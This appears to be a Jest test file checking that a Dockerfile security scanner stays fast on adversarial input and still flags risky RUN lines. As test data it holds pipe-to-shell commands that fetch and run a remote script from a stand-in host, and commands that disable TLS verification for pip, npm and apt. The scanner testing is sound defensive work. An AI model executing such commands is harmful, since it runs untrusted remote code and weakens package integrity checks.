import { afterEach, describe, expect, test } from '@jest/globals';
import { rmSync } from 'node:fs';
import { scanFiles } from '../helpers/rules.js';

const roots: string[] = [];
afterEach(() => {
  for (const r of roots.splice(0)) rmSync(r, { recursive: true, force: true });
});

/**
 * Hostile RUN instructions within the 1 MiB Dockerfile cap. Before the fix the first took ~24 s
 * (every rule asked "what follows in this pipeline / is anything verified later?" by scanning the
 * whole script per command) and a long pipeline re-numbered every member per element.
 */
describe('shell analysis stays linear on hostile RUNs', () => {
  test('10,000 `curl | sh &&` commands in one RUN', async () => {
    const t0 = performance.now();
    const res = await scanFiles({
      Dockerfile: `FROM a\nRUN ${Array(10_000).fill('curl http://x | sh').join(' && ')}\n`,
    });
    roots.push(res.root);
    const ms = performance.now() - t0;
    expect(res.findings.filter((f) => f.ruleId === 'dockerfile/remote-script-exec')).toHaveLength(10_000);
    expect(ms).toBeLessThan(10_000);
  });

  test('a 400,000-element pipeline (tokenizer path)', async () => {
    const t0 = performance.now();
    const res = await scanFiles({ Dockerfile: `FROM a\nRUN ${'x|'.repeat(400_000)}sh\n` });
    roots.push(res.root);
    expect(performance.now() - t0).toBeLessThan(10_000);
    expect(res.findings.map((f) => f.ruleId)).not.toContain('scan/internal-error');
  });

  test('a download hidden after 20,000 no-op commands is not a silent pass', async () => {
    const pinned = `FROM a@sha256:${'a'.repeat(64)}\nUSER 1\n`;
    const hidden = await scanFiles({
      Dockerfile: `${pinned}RUN ${':;'.repeat(20_001)}curl https://x.example/i.sh | sh\n`,
    });
    const shown = await scanFiles({
      Dockerfile: `${pinned}RUN ${':;'.repeat(50)}curl https://x.example/i.sh | sh\n`,
    });
    roots.push(hidden.root, shown.root);
    // The RUN past the cap is one blocking finding; the rest of the file is still checked.
    expect(hidden.findings.map((f) => [f.ruleId, f.severity, f.startLine, f.startColumn])).toEqual([
      ['dockerfile/shell-analysis-incomplete', 'high', 3, 1],
    ]);
    expect(shown.findings.map((f) => [f.ruleId, f.startLine])).toEqual([
      ['dockerfile/remote-script-exec', 3],
    ]);
  });

  test('config text with long blank runs after a setting name (regex backtracking)', async () => {
    // `sslverify\s*[=:]?\s*` split every blank run two ways: ~1 s per 20 KB word, 40 s per file.
    const pad = ' '.repeat(19_980);
    const runs = [
      `RUN echo " sslverify${pad}x" > /etc/pip.conf`,
      `RUN echo "strict-ssl${pad}x" > /root/.npmrc`,
      `RUN echo "allowunauthenticated${pad}x" > /etc/apt/apt.conf.d/99x`,
    ];
    const t0 = performance.now();
    const res = await scanFiles({ Dockerfile: `FROM a\n${Array(8).fill(runs.join('\n')).join('\n')}\n` });
    roots.push(res.root);
    expect(performance.now() - t0).toBeLessThan(8_000);
    const ok = await scanFiles({
      Dockerfile:
        'FROM a\nRUN echo "sslverify = 0" > /etc/pip.conf && echo "strict-ssl false" > /root/.npmrc\n',
    });
    roots.push(ok.root);
    expect(ok.findings.filter((f) => f.ruleId === 'dockerfile/tls-verification-disabled')).toHaveLength(2);
  });
});
